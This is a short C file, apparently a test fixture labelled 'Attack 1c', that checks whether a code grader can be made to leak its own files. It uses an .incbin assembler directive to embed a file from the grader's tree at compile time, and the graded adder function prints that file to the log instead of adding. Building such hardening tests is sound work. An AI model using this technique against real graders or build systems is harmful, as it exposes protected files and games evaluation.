/* Attack 1c: .incbin a file of the grader's tree (absolute path) into the object at
 * compile time, then print it from the graded function (it goes to the run's log).
 * @PATH@ is replaced by the test. */
#include <stdio.h>
#include "kernel.h"
__asm__(".section .rodata\n"
        ".global incbin_leak_start\n"
        "incbin_leak_start:\n"
        ".incbin \"@PATH@\"\n"
        ".byte 0\n"
        ".previous\n");
extern const char incbin_leak_start[];
int adder_add(int a, int b)
{
    (void)a;
    (void)b;
    fprintf(stderr, "LEAK-BEGIN %s LEAK-END\n", incbin_leak_start);
    return 0;
}
